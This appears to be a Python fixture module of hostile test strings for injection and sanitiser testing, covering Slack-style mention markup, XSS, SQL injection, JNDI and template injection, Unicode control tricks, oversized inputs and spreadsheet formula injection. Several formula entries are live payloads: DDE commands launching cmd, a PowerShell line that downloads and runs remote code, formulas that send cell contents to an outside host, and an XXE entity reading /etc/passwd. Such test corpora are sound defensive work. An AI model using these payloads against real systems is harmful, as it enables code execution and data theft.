"""What somebody may type to make another program do something: in a chat, a spreadsheet, a document, a shell."""

from itertools import product

MARKUP = (
    *("<!channel>", "<!here>", "<!everyone>", "<!here|here>", "<@U1>", "<@W012A3CDE|alex>", "<#C1>", "<#C1|general>"),
    *("<!subteam^S1>", "<!subteam^S1|@leads>", "<!date^1392734382^{date}|x>", "<!date^1^{date}^https://x|y>"),
    *(
        "<https://x.example>",
        "<https://x.example|our policy>",
        "<mailto:a@b.example|mail>",
        "<tel:1>",
        "<http://x|*b*>",
    ),
    *("<javascript:alert(1)|x>", "<data:text/html,x|y>", "<//x.example|y>", "<slack://user?id=U1|y>"),
)
LAYOUT = (
    *("*bold*", "_italic_", "~struck~", "`code`", "```block```", "* a\n* b", "> quote", ">>> quote", "&gt; quote"),
    *("*", "_", "~", "`", "*_~`", "**", "a*b*c", ":smile:", ":rotating_light: Urgent", "[link](https://x.example)"),
    *(
        "# heading",
        "| a | b |",
        "---",
        "1. one",
        "- one",
        "\n\n\n",
        "@channel",
        "#general",
        "@here",
        "https://x.example",
    ),
)
CODE = (
    *(
        "<script>alert(1)</script>",
        "<b>b</b>",
        "<img src=x onerror=alert(1)>",
        "&lt;!channel&gt;",
        "&amp;lt;!channel&gt;",
    ),
    *("&#60;!channel&#62;", "&#x3c;!channel>", "%3C!channel%3E", "\\u003c!channel>", "{0.__class__}", "{user}", "%s%n"),
    *('{"action":"erase","value":"417"}', "'; DROP TABLE x;--", "${jndi:ldap://x}", "{{7*7}}", "\\", '"', "'"),
)
LETTERS = (
    *("\u202eabc", "\u2066<!channel>\u2069", "<\u200b!channel>", "<!chan\u200bnel>", "\u200b", "\ufeffx", "\u00adx"),
    *("\0", "<\0!channel>", "\x1b[31mred", "\b\b\b", "\r\n<!channel>", "\u2028<!channel>", "\u2029x", "\x85x", "\v\f"),
    *("\U000e0041tag", "\U000e003c!channel\U000e003e", "＜!channel＞", "‹!channel›", "≺@U1≻", "\u061cx", "\u180ex"),
    *("a\u0300" * 50, "\u3164", "\u2800", "\uffa0", "👩\u200d👧", "🏴\U000e0067", "\ufffe", "مرحبا", "\u034fx"),
)
SIZES = (
    "x" * 10_000,
    "<!channel>" * 1_000,
    "&" * 10_000,
    "*" * 10_000,
    "😀" * 5_000,
    "\n" * 10_000,
    "<" * 10_000,
    " " * 99,
)
WRAPS = ("{}", "say {} now", "*{}*", "<{}>", "\u202e{}")
STRINGS = (
    *(wrap.replace("{}", text) for wrap, text in product(WRAPS, (*MARKUP, *LAYOUT, *CODE, *LETTERS))),
    *SIZES,
)

FORMULAS = (
    *("=1+1", "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0", '=DDE("cmd";"/C calc";"x")'),
    *(
        "+1+1",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "=",
        "+",
        "-",
        "@",
    ),
    *('=HYPERLINK("http://x.example?leak="&A1&A2,"click")', '=IMPORTXML(CONCAT("http://x.example?v=",A1),"//a")'),
    *(
        '=WEBSERVICE("http://x.example/"&A1)',
        '=IMAGE("http://x.example/x.png")',
        "{=1+1}",
        "='file:///etc/passwd'#$x.A1",
    ),
    *(
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\r\n=1+1",
        "\0=1+1",
        " =1+1",
        "\u00a0=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\u3000=1",
    ),
    *("＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "﹢1", "﹣1", "﹫x", "−1", "⁼1", "⁺1"),
    *("'=1+1", "''=1+1", "'", "''", "'text", '"=1+1"', '""=1+1', "`=1+1", '"', "a,=1+1", "a;=1+1", "a\t=1+1", "a|=1+1"),
    *("a\n=1+1", "a\r\n-1", 'a";=1+1', "a;'=1+1", "x;\n;=1+1;", "- one\n- two\n+ three", "a,b;c\td", '","=1+1","'),
    *(
        "1E5",
        "0417",
        "00123",
        "1/2",
        "TRUE",
        "#REF!",
        "#N/A",
        "2026-11-30",
        "1,234.5",
        "12%",
        "$A$1",
        "A1",
        "NULL",
        "nan",
    ),
    *("http://x.example", "https://x.example/a b", "mailto:a@b.example", "ftp://x", "file://x", "internal:Sheet1!A1"),
    *("external:c:\\x.xlsx", "\\\\x\\share", "_x0041_", "_x005F_x0041_", "_x000D_", "x_x0000_x", "&#x3D;1+1", "%3D1+1"),
    *("{ HYPERLINK x }", "\x13 INCLUDETEXT x \x14y\x15", "<w:t>x</w:t>", "]]>", "<![CDATA[x]]>", "&xxe;", "<?xml?>"),
    *(
        '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
        "[redacted]",
        "[U+0000]",
        "[U+202E]",
        " ",
        "\n",
        "\t",
        "\r",
    ),
)
SCRIPTS = (
    *("শ্রমিকদের পাসপোর্ট রেখে দেয়", "يحتفظون بجوازات سفر العمال", "他们扣留工人的护照", "労働者の旅券", "근로자 여권"),
    *("они забирают паспорта", "κρατούν διαβατήρια", "הם מחזיקים דרכונים", "พวกเขายึดหนังสือเดินทาง", "passaporti, già"),
    *(
        "नियोक्ता",
        "👩🏽‍🏭 👨‍👩‍👧‍👦 🏳️‍🌈 🇧🇩",
        "e\u0301a\u0308o\u0323\u0302",
        "क्\u200dष",
        "می\u200cخواهم",
        "abc يحتفظون 12 def",
        "𝔘𝔫𝔦 𠮷",
    ),
    *(
        "ﬁ",
        "İstanbul",
        "ẞ",
        "x\u0301" * 40,
        "\u200fabc",
        "\u061cx",
        "\u2067abc\u2069",
        "\u202dabc",
        "\ud7ff\ue000\ufffd",
    ),
)
LONG = (
    *("=" * 40_000, "-" * 32_768, "x" * 32_767, "x" * 32_768, "😀" * 16_384, "😀" * 40_000, "a\n" * 300, "é" * 100_000),
    *("x" * 32_567 + "=1+1", "ক্ষ" * 20_000, "\n=1+1" * 6_000),
)
EVERYTHING = (*STRINGS, *FORMULAS, *SCRIPTS, *LONG)
